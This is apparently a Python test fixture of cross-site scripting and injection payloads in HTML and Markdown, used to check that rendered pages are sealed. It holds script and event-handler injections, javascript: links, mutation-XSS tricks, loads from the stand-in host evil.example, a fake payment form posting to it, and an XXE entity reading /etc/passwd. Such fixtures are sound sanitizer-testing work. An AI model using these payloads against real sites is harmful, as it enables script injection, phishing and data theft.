"""Texts that somebody writes, or that come in with an import, to make a page do what it should not (sealing §7).

Each calls `hit()`, asks a stranger for something, or changes the page under the reader's feet. `hit` is a function that
the test puts into the page; `https://evil.example` is the stranger.
"""

from __future__ import annotations

from collections.abc import Mapping

EVIL = "https://evil.example"

HTML: Mapping[str, str] = {
    "script": "<script>hit()</script>",
    "script in capitals": "<SCRIPT>hit()</SCRIPT>",
    "script from a stranger": f'<script src="{EVIL}/s.js"></script>',
    "script with a slash": f"<script/src={EVIL}/s.js></script>",
    "module": "<script type=module>hit()</script>",
    "script of data": '<script src="data:text/javascript,hit()"></script>',
    "script in two halves": "<scr<script>ipt>hit()</scr</script>ipt>",
    "script after a comment": "<!--><script>hit()</script>-->",
    "script in a comment that ends early": "<!-- --!><script>hit()</script> -->",
    "script in noscript": '<noscript><p title="</noscript><script>hit()</script>">x</p></noscript>',
    "script in a textarea": "<textarea><script>hit()</script></textarea></textarea><script>hit()</script>",
    "script in a title": "<title><img src=x onerror=hit()></title>",
    "script in a template": "<template><script>hit()</script><img src=x onerror=hit()></template>",
    "script in a shadow": "<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>",
    "script in a frameless place": "<noframes><p title='</noframes><img src=x onerror=hit()>'>x</p></noframes>",
    "picture that fails": "<img src=x onerror=hit()>",
    "picture that fails, with a slash": "<img/src=x/onerror=hit()>",
    "picture that loads": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="hit()">',
    "picture from a stranger": f'<img src="{EVIL}/p.png" alt="p">',
    "picture from nowhere named": '<img src="//evil.example/p.png" alt="p">',
    "picture with backslashes": r'<img src="\\evil.example\p.png" alt="p">',
    "picture in sizes": f'<img srcset="{EVIL}/p.png 2x" alt="p">',
    "picture that is a drawing": '<img src="data:image/svg+xml,%3Csvg onload=%22hit()%22/%3E" alt="p">',
    "picture element": f'<picture><source srcset="{EVIL}/p.png"><img alt="p"></picture>',
    "old picture": f'<image src="{EVIL}/p.png" onerror="hit()">',
    "body that loads": "<body onload=hit() onpageshow=hit() onhashchange=hit()>",
    "background": f'<table background="{EVIL}/b.png"><tr><td background="{EVIL}/c.png">x</td></tr></table>',
    "style element": f'<style>@import url("{EVIL}/s.css"); body {{ display: none }}</style>',
    "style attribute": f'<p style="background: url({EVIL}/b.png); position: fixed; inset: 0">x</p>',
    "style sheet": f'<link rel="stylesheet" href="{EVIL}/s.css">',
    "style sheet of its own": '<link rel="stylesheet" href="../assets/other.css">',
    "preload": f'<link rel="preload" as="image" href="{EVIL}/p.png"><link rel="dns-prefetch" href="{EVIL}">',
    "base": f'<base href="{EVIL}/"><img src="p.png" alt="p"><a href="next">next</a>',
    "base target": "<base target=_parent>",
    "meta refresh": f'<meta http-equiv="refresh" content="0; url={EVIL}/">',
    "meta refresh to a script": '<meta http-equiv="refresh" content="0; url=javascript:hit()">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    "meta referrer": '<meta name="referrer" content="unsafe-url">',
    "link to a script": '<a href="javascript:hit()">click</a>',
    "link to a script, padded": '<a href=" &#1; java&#9;script&colon;hit()">click</a>',
    "link to a script in capitals": '<a href="JaVaScRiPt:hit()">click</a>',
    "link to data": '<a href="data:text/html,<script>opener.hit()</script>">click</a>',
    "link to a script of old": '<a href="vbscript:hit()">click</a>',
    "link that pings": f'<a href="#x" ping="{EVIL}/ping">click</a>',
    "link to a blob": '<a href="blob:https://practice.example/1">click</a>',
    "link that opens in a frame above": '<a href="javascript:hit()" target="_top">click</a>',
    "frame": f'<iframe src="{EVIL}/"></iframe>',
    "frame of text": '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    "frame of script": '<iframe src="javascript:parent.hit()"></iframe>',
    "object": f'<object data="{EVIL}/o.swf" type="text/html"><img src=x onerror=hit()></object>',
    "embed": f'<embed src="{EVIL}/e.swf">',
    "applet": f'<applet code="{EVIL}/a.class"></applet>',
    "frames": f'<frameset onload="hit()"><frame src="{EVIL}/f"></frameset>',
    "form": f'<form action="{EVIL}/f" method="post"><input name="iban"><button>Pay</button></form>',
    "form of a script": '<form action="javascript:hit()"><input type=submit id=go></form><label for=go>x</label>',
    "form that sends itself": '<form><input type=image src=x onerror=hit() formaction="javascript:hit()"></form>',
    "button elsewhere": f'<button form="x" formaction="{EVIL}/f" onclick="hit()">Pay</button>',
    "input in focus": "<input autofocus onfocus=hit()>",
    "anything in focus": "<p tabindex=0 autofocus onfocus=hit()>x</p>",
    "details that open": "<details open ontoggle=hit()><summary>x</summary>y</details>",
    "video": f'<video src="{EVIL}/v.mp4" poster="{EVIL}/p.png" onloadstart="hit()" autoplay></video>',
    "audio": f'<audio src="{EVIL}/a.mp3" onerror="hit()" autoplay></audio>',
    "track": f'<video><track default src="{EVIL}/t.vtt" onerror="hit()"></video>',
    "marquee": "<marquee onstart=hit() onfinish=hit() loop=1>x</marquee>",
    "transition": "<p style='animation: x 1s' onanimationstart=hit() ontransitionend=hit()>x</p>",
    "drawing that loads": '<svg onload="hit()"><path d="M0 0"/></svg>',
    "drawing with a script": "<svg><script>hit()</script></svg>",
    "drawing with a linked script": f'<svg><script xlink:href="{EVIL}/s.js"></script></svg>',
    "drawing with a link": '<svg><a xlink:href="javascript:hit()"><text y="20">click</text></a></svg>',
    "drawing that moves a link": '<svg><a><animate attributeName=href values="javascript:hit()"/><text>x</text></a></svg>',
    "drawing that sets": '<svg><set attributeName="onmouseover" to="hit()" onbegin="hit()"/></svg>',
    "drawing that uses another": f'<svg><use href="{EVIL}/d.svg#x"/><image href="{EVIL}/i.png"/></svg>',
    "drawing filled from elsewhere": f'<svg><path d="M0 0h9v9z" fill="url({EVIL}/f.svg#x)"/></svg>',
    "drawing with a style": f"<svg><style>@import '{EVIL}/s.css'; * {{ fill: url({EVIL}/f) }}</style></svg>",
    "drawing that holds a page": "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></iframe></foreignObject></svg>",
    "drawing whose title is a page": "<svg><title><img src=x onerror=hit()></title></svg>",
    "formula": '<math><maction actiontype="statusline" xlink:href="javascript:hit()">click</maction></math>',
    "formula that mutates": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
    "drawing that mutates": '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
    "names that are taken": "<img name=location alt=''><form name=document id=sealed></form><a id=setup name=open>x</a>",
    "element that is another": "<p is=hit-me>x</p><hit-me onclick=hit()>x</hit-me>",
    "popover": "<button popovertarget=p>x</button><p id=p popover onbeforetoggle=hit()>y</p>",
    "dialog": "<dialog open oncancel=hit()><form method=dialog><button>x</button></form></dialog>",
    "text that never ends": "<plaintext><script>hit()</script>",
    "old quotation": "<xmp><img src=x onerror=hit()></xmp><listing>x</listing>",
    "end of the page": "</p></main></body></html><script>hit()</script><img src=x onerror=hit()>",
    "nothing in a name": "<img src=x one\0rror=hit()><scr\0ipt>hit()</scr\0ipt>",
    "event in odd spelling": "<img src=x ONERROR=hit()><p onClick&#61;hit()>x</p>",
    "xml": "<?xml-stylesheet href='javascript:hit()'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "keyboard": '<p accesskey="x" contenteditable onclick="hit()" onkeydown="hit()">x</p>',
    "map": f'<img usemap="#m" src="x.png" alt="m"><map name="m"><area href="javascript:hit()" ping="{EVIL}/"></map>',
    "portal": f'<portal src="{EVIL}/"></portal><fencedframe src="{EVIL}/"></fencedframe>',
    "manifest": f'<html manifest="{EVIL}/m"><link rel="manifest" href="{EVIL}/m.json">',
}
"""In the language of pages."""

MARKDOWN: Mapping[str, str] = {
    "link": "[click](javascript:hit())",
    "link in odd spelling": "[click](JAVA&#x53;CRIPT&colon;hit())",
    "link by reference": "[click][1]\n\n[1]: javascript:hit()",
    "link of data": "[click](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "link with a title": '[click](https://x.example "x\\" onmouseover=\\"hit()")',
    "link in brackets": "<javascript:hit()>",
    "picture": f"![p]({EVIL}/p.png)",
    "picture of a script": "![p](javascript:hit())",
    "picture with an event": '![p](x.png "x\\" onerror=\\"hit()")',
    "attributes": '# Words {onclick="hit()" style="position:fixed"}\n\ntext\n{: onmouseover="hit()" }',
    "code that is none": "```\n</code></pre><script>hit()</script>\n```",
    "code in a line": "`</code><img src=x onerror=hit()>`",
    "footnote": "x[^1]\n\n[^1]: <img src=x onerror=hit()>",
    "table": "| a | b |\n|---|---|\n| <img src=x onerror=hit()> | [x](javascript:hit()) |",
    "heading": "## <script>hit()</script> Words {#javascript:hit()}",
}
"""As an author of Markdown might write them, or paste them."""

EVENTS = """document => {
  // everything that a reader might touch is touched; only leaving the page is prevented
  document.addEventListener('click', event => {
    const link = event.target.closest && event.target.closest('a[href]');
    if (link && /^(https?|mailto|tel|blob):/.test(link.href)) event.preventDefault();
  }, {capture: true});
  for (const element of document.querySelectorAll('body, body *')) {
    for (const type of ['mouseover', 'focus', 'toggle', 'keydown', 'load', 'error', 'animationstart', 'transitionend'])
      element.dispatchEvent(new Event(type, {bubbles: true}));
    if (element.click) element.click();
    else element.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
  }
}"""
"""Touches everything on a page: a function of its document."""
